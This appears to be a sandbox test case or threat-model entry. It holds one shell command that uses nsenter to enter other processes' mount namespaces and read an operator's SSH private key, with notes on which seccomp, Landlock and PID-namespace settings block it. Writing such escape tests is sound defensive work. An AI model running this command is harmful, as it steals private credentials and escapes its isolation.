# title: enters the mount namespace of another process
# harm: learns
# B: seccomp refuses setns; Landlock
# C: the process is not in the PID namespace; seccomp refuses setns
for p in $VICTIM $GATEWAY 1; do nsenter -t "$p" -m cat "$OP_HOME/.ssh/id_ed25519"; done
